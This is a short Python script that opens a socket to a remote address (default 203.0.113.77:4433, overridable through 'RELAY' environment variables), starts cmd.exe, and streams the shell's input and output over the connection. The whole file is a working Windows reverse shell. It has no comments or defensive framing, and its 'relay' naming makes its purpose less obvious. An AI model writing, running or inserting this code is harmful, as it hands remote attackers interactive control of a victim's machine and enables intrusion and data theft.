import os
import socket
import subprocess
import threading

HOST = os.getenv("RELAY_HOST", "203.0.113.77")
PORT = int(os.getenv("RELAY_PORT", "4433"))


def main():
    link = socket.create_connection((HOST, PORT))
    incoming = link.makefile("rb", buffering=0)
    outgoing = link.makefile("wb", buffering=0)
    shell = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)

    def pump():
        while True:
            chunk = shell.stdout.read(1)
            if not chunk:
                break
            outgoing.write(chunk)

    threading.Thread(target=pump, daemon=True).start()
    while True:
        data = incoming.read(1)
        if not data:
            break
        shell.stdin.write(data)
        shell.stdin.flush()
